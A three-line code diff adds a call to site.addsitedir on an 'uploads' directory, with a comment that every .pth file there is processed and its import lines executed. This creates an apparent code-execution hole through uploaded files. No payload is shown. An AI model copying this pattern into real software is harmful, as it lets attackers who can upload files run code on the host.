@@ -1,0 +1,3 @@
+# processes every .pth file in the directory, executing import lines
+import site
+site.addsitedir("uploads")
